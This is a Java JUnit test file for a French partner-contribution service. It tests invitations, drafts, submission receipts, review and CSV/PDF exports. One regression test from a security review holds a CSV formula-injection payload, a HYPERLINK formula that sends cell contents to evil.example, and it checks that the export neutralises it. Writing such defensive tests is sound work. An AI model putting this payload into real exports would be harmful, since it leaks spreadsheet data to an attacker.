package fr.ctg.contribution;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.GreenMailUtil;
import com.icegreen.greenmail.util.ServerSetupTest;
import fr.ctg.CtgSpringTest;
import fr.ctg.TestClockConfig;
import fr.ctg.TestLogin;
import fr.ctg.base.NotFoundException;
import fr.ctg.document.DocumentService;
import fr.ctg.document.TestFiles;
import fr.ctg.security.AccountService;
import fr.ctg.security.InvitationService;
import jakarta.mail.internet.MimeMessage;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.util.Arrays;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.springframework.beans.factory.annotation.Autowired;

/** Invitations (e-mailed, single use, expiring, revocable), drafts, submission with receipt, review, exports. */
@CtgSpringTest
class ContributionServiceTest {

    @RegisterExtension
    static GreenMailExtension greenMail = new GreenMailExtension(ServerSetupTest.SMTP);

    @Autowired PartnerService partners;
    @Autowired CallService calls;
    @Autowired SubmissionService submissions;
    @Autowired ReviewService review;
    @Autowired ContributionFixture fixture;
    @Autowired TestLogin login;
    @Autowired AccountService accounts;
    @Autowired Clock clock;

    ContributionFixture.World c;

    @BeforeEach
    void setUp() {
        c = fixture.create();
    }

    @AfterEach
    void tearDown() {
        login.logout();
        ((TestClockConfig.MutableClock) clock).reset();
    }

    private MimeMessage lastMailTo(String address) {
        return Arrays.stream(greenMail.getReceivedMessages()).filter(m -> {
            try {
                return m.getAllRecipients()[0].toString().equals(address);
            } catch (Exception e) {
                return false;
            }
        }).reduce((a, b) -> b).orElseThrow();
    }

    /** Invites an address for an organisation and returns the secret token from the e-mail. */
    String invite(long organisation, String address) throws Exception {
        login.as(c.user("referent"));
        partners.invite(c.w().conventionId(), organisation, address, Locale.FRENCH);
        login.logout();
        String body = GreenMailUtil.getBody(lastMailTo(address)).replace("=\r\n", "").replace("=3D", "=");
        Matcher m = Pattern.compile("/invitation/([A-Za-z0-9_-]{20,})").matcher(body);
        assertThat(m.find()).as(body).isTrue();
        return m.group(1);
    }

    @Test
    void anInvitationCreatesAContributorOnceAndExpiresOrIsRevoked() throws Exception {
        String address = c.w().prefix() + "-marie@asso.test";
        String token = invite(c.familles(), address);
        assertThat(lastMailTo(address).getSubject()).startsWith("Invitation à contribuer");
        assertThat(invitations.describe(token).contextLabel()).startsWith("Familles rurales");
        assertThatThrownBy(() -> invitations.acceptNew(token, "Marie Dupont", TestLogin.CHOSEN_PASSWORD, "autre-mot-de-passe"))
                .hasMessageContaining("account.error.passwordsDiffer");
        assertThatThrownBy(() -> invitations.acceptNew(token, "Marie Dupont", TestLogin.DEMO_PASSWORD, TestLogin.DEMO_PASSWORD))
                .hasMessageContaining("account.error.passwordCommon");
        assertThat(accept(token, "Marie Dupont")).isEqualTo(address);
        assertThatThrownBy(() -> invitations.acceptNew(token, "Marie Dupont", TestLogin.CHOSEN_PASSWORD, TestLogin.CHOSEN_PASSWORD))
                .hasMessageContaining("invitation.error.used");
        login.as(address);
        assertThat(calls.calls(c.w().conventionId())).extracting(CallDetails::id).containsExactly(c.callId());

        login.as(c.user("referent"));
        assertThatThrownBy(() -> partners.invite(c.w().conventionId(), c.lien(), address, Locale.FRENCH))
                .hasMessageContaining("contribution.error.otherOrganisation");
        String late = invite(c.lien(), c.w().prefix() + "-paul@asso.test");
        ((TestClockConfig.MutableClock) clock).advance(Duration.ofDays(15));
        assertThatThrownBy(() -> invitations.acceptNew(late, "Paul", TestLogin.CHOSEN_PASSWORD, TestLogin.CHOSEN_PASSWORD))
                .hasMessageContaining("invitation.error.expired");
        ((TestClockConfig.MutableClock) clock).reset();
        String revoked = invite(c.lien(), c.w().prefix() + "-lea@asso.test");
        login.as(c.user("referent"));
        partners.revoke(partners.invitations(c.w().conventionId()).getFirst().id());
        assertThatThrownBy(() -> invitations.acceptNew(revoked, "Léa", TestLogin.CHOSEN_PASSWORD, TestLogin.CHOSEN_PASSWORD))
                .hasMessageContaining("invitation.error.revoked");
        assertThatThrownBy(() -> invitations.acceptNew("n-importe-quoi", "X", TestLogin.CHOSEN_PASSWORD, TestLogin.CHOSEN_PASSWORD))
                .hasMessageContaining("invitation.error.invalid");
    }

    @Test
    void draftsAreKeptSubmissionIsCheckedAndReceiptedAndTheReviewReachesTheContributor() throws Exception {
        String address = c.w().prefix() + "-marie@asso.test";
        accept(invite(c.familles(), address), "Marie Dupont");
        login.as(address);
        submissions.saveDraft(c.callId(), Map.of(0, "Isolement des jeunes parents", 1, "beaucoup"));
        assertThat(submissions.mine(c.callId()).answers()).containsEntry(1, "beaucoup");
        assertThatThrownBy(() -> submissions.submit(c.callId())).hasMessageContaining("contribution.error.number");
        submissions.saveDraft(c.callId(), Map.of(0, "Isolement des jeunes parents", 1, "1 250", 2, "Parents", 3, "peut-être"));
        assertThatThrownBy(() -> submissions.submit(c.callId())).hasMessageContaining("contribution.error.yesNo");
        submissions.saveDraft(c.callId(), Map.of(1, "1 250", 3, "oui"));
        assertThatThrownBy(() -> submissions.submit(c.callId())).hasMessageContaining("contribution.error.required");
        assertThat(submissions.mine(c.callId()).answers()).as("the draft is kept").containsEntry(1, "1 250");
        submissions.saveDraft(c.callId(), Map.of(0, "Isolement des jeunes parents ; mobilité", 1, "1 250", 2, "Parents",
                3, "oui"));
        SubmissionDetails receipt = submissions.submit(c.callId());
        assertThat(receipt.status()).isEqualTo(SubmissionStatus.SUBMITTED);
        assertThat(receipt.reference()).matches("CTG-2026-\\d{5}-[0-9A-Z]+");
        MimeMessage mail = lastMailTo(address);
        assertThat(mail.getSubject()).isEqualTo("Accusé de réception " + receipt.reference());
        assertThat(GreenMailUtil.getBody(mail)).contains("mobilit");
        assertThatThrownBy(() -> submissions.saveDraft(c.callId(), Map.of(0, "x")))
                .hasMessageContaining("contribution.error.alreadySubmitted");
        submissions.withdraw(c.callId());
        submissions.saveDraft(c.callId(), Map.of(0, "Isolement des jeunes parents ; mobilité ; logement", 1, "1 250"));
        String newAddress = c.w().prefix() + "-marie.dupont@asso.test";
        accounts.updateProfile("Marie Dupont", newAddress, null, Locale.ENGLISH);
        SubmissionDetails again = submissions.submit(c.callId());
        assertThat(again.status()).isEqualTo(SubmissionStatus.SUBMITTED);
        assertThat(lastMailTo(newAddress).getSubject()).as("the address and language saved in my account")
                .isEqualTo("Receipt " + again.reference());

        login.as(c.user("referent"));
        assertThat(review.submissions(c.callId())).singleElement().satisfies(s -> assertThat(s.organisationName())
                .startsWith("Familles rurales"));
        assertThat(review.answersTo(c.callId(), 0).values()).containsExactly("Isolement des jeunes parents ; mobilité ; logement");
        review.review(again.id(), ReviewStatus.TAKEN_INTO_ACCOUNT, "Repris dans le diagnostic partagé.");
        String csv = new String(review.csv(c.callId()), StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\uFEFForganisation;reference;depose_le;suite;Quels besoins")
                .contains("\"Isolement des jeunes parents ; mobilité ; logement\"", "TAKEN_INTO_ACCOUNT");
        try (var doc = Loader.loadPDF(review.pdf(c.callId()))) {
            assertThat(new PDFTextStripper().getText(doc)).contains("Évaluation 2026", "Familles rurales",
                    "mobilité", "Repris dans le diagnostic partagé.");
        }
        login.as(address);
        SubmissionDetails seen = submissions.mine(c.callId());
        assertThat(seen.reviewStatus()).isEqualTo(ReviewStatus.TAKEN_INTO_ACCOUNT);
        assertThat(seen.reviewAnswer()).isEqualTo("Repris dans le diagnostic partagé.");
    }

    @Test
    void afterTheClosingDateNothingIsSubmittedAndTheDraftStays() throws Exception {
        String address = c.w().prefix() + "-marie@asso.test";
        accept(invite(c.familles(), address), "Marie Dupont");
        login.as(address);
        submissions.saveDraft(c.callId(), Map.of(0, "Besoins", 1, "12"));
        ((TestClockConfig.MutableClock) clock).advance(Duration.ofDays(20));
        assertThatThrownBy(() -> submissions.submit(c.callId())).hasMessageContaining("contribution.error.closed");
        assertThatThrownBy(() -> submissions.saveDraft(c.callId(), Map.of(0, "Tard")))
                .hasMessageContaining("contribution.error.closed");
        assertThat(submissions.mine(c.callId()).answers()).containsEntry(0, "Besoins");
    }

    @Test
    void aFileAnswerFollowsTheDocumentRulesAndStaysWithItsOrganisation() throws Exception {
        String marie = c.w().prefix() + "-marie@asso.test";
        accept(invite(c.familles(), marie), "Marie Dupont");
        String karim = c.w().prefix() + "-karim@asso.test";
        accept(invite(c.lien(), karim), "Karim");
        login.as(marie);
        assertThatThrownBy(() -> submissions.attach(c.callId(), 4, TestFiles.file("bilan.pdf",
                TestFiles.html()))).hasMessageContaining("document.error");
        assertThatThrownBy(() -> submissions.attach(c.callId(), 0, TestFiles.file("bilan.pdf",
                TestFiles.pdf("x")))).hasMessageContaining("contribution.error.notAFileQuestion");
        submissions.saveDraft(c.callId(), Map.of(0, "Besoins", 1, "12"));
        SubmissionDetails withFile = submissions.attach(c.callId(), 4, TestFiles.file("Bilan d’activité 2025.pdf",
                TestFiles.pdf("bilan Familles rurales")));
        assertThat(withFile.answers().get(4)).isEqualTo("Bilan d’activité 2025.pdf");
        assertThat(withFile.files()).containsOnlyKeys(4);
        submissions.saveDraft(c.callId(), Map.of(0, "Besoins précisés", 1, "12"));
        assertThat(submissions.mine(c.callId()).answers()).as("typing elsewhere keeps the file").containsKey(4);
        submissions.submit(c.callId());
        assertThat(GreenMailUtil.getBody(lastMailTo(marie))).contains("Bilan d");
        long documentId = submissions.mine(c.callId()).files().get(4);
        login.as(karim);
        assertThatThrownBy(() -> documentsService.get(documentId)).isInstanceOf(NotFoundException.class);
        login.as(c.user("referent"));
        assertThat(documentsService.get(documentId).summary().current().sizeBytes()).isPositive();
        assertThat(new String(review.csv(c.callId()), StandardCharsets.UTF_8)).contains("Bilan d’activité 2025.pdf");
    }

    @Test
    void anOrganisationHasSeveralContributorsWhoShareItsSubmission() throws Exception {
        String marie = c.w().prefix() + "-marie@asso.test";
        String jean = c.w().prefix() + "-jean@asso.test";
        accept(invite(c.familles(), marie), "Marie Dupont");
        accept(invite(c.familles(), jean), "Jean Martin");
        login.as(marie);
        submissions.saveDraft(c.callId(), Map.of(0, "Commencé par Marie"));
        login.as(jean);
        assertThat(submissions.mine(c.callId()).answers()).containsEntry(0, "Commencé par Marie");
        submissions.saveDraft(c.callId(), Map.of(0, "Commencé par Marie, complété par Jean", 1, "30"));
        assertThat(submissions.submit(c.callId()).submittedBy()).startsWith("Jean Martin");
        login.as(c.user("referent"));
        assertThat(partners.invitations(c.w().conventionId())).extracting(PartnerInvitationRow::email).contains(marie, jean);
    }

    @Autowired DocumentService documentsService;
    @Autowired InvitationService invitations;

    /** Accepts an invitation with a new account, as the invited person does on the link's page. */
    String accept(String token, String name) {
        return TestLogin.chose(invitations.acceptNew(token, name, TestLogin.CHOSEN_PASSWORD, TestLogin.CHOSEN_PASSWORD));
    }

    /** Hole 2 of the security review: an association's answer typed as a formula ran in the referents' spreadsheet. */
    @Test
    void csvFormulaInjectionTypedByAnAssociationIsNeutralisedInTheExport() throws Exception {
        String address = c.w().prefix() + "-eve@asso.test";
        accept(invite(c.familles(), address), "Ève Formule");
        login.as(address);
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")";
        submissions.saveDraft(c.callId(), Map.of(0, formula, 1, "12", 3, "oui"));
        submissions.submit(c.callId());
        login.as(c.user("referent"));
        String csv = new String(review.csv(c.callId()), StandardCharsets.UTF_8);
        assertThat(csv).contains(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"clic\"\")\";")
                .doesNotContain(";\"=HYPERLINK");
    }

    /** Hole 9 of the security review: two contacts of one organisation on the same draft; the last save won silently. */
    @Test
    void lostUpdatesADraftSavedMeanwhileByAColleagueIsShownNeverOverwritten() throws Exception {
        String anne = c.w().prefix() + "-anne@asso.test";
        String paul = c.w().prefix() + "-paul@asso.test";
        accept(invite(c.familles(), anne), "Anne Famille");
        accept(invite(c.familles(), paul), "Paul Famille");
        login.as(paul, TestLogin.CHOSEN_PASSWORD);
        long paulSaw = submissions.mine(c.callId()).version(); // Paul opens the page: no draft yet
        login.as(anne, TestLogin.CHOSEN_PASSWORD);
        SubmissionDetails anneSaved = submissions.saveDraft(c.callId(), Map.of(0, "Garde d’enfants le soir"),
                submissions.mine(c.callId()).version());
        login.as(paul, TestLogin.CHOSEN_PASSWORD);
        assertThatThrownBy(() -> submissions.saveDraft(c.callId(), Map.of(0, "Transport"), paulSaw))
                .isInstanceOfSatisfying(DraftChangedMeanwhile.class, e -> {
                    assertThat(e.now().answers()).containsEntry(0, "Garde d’enfants le soir");
                    assertThat(e.getMessageKey()).isEqualTo("contribution.error.changedMeanwhile");
                });
        assertThat(submissions.mine(c.callId()).answers()).containsEntry(0, "Garde d’enfants le soir");
        // having been shown it, Paul saves over it on purpose
        assertThat(submissions.saveDraft(c.callId(), Map.of(0, "Transport"), anneSaved.version()).answers())
                .containsEntry(0, "Transport");
    }
}
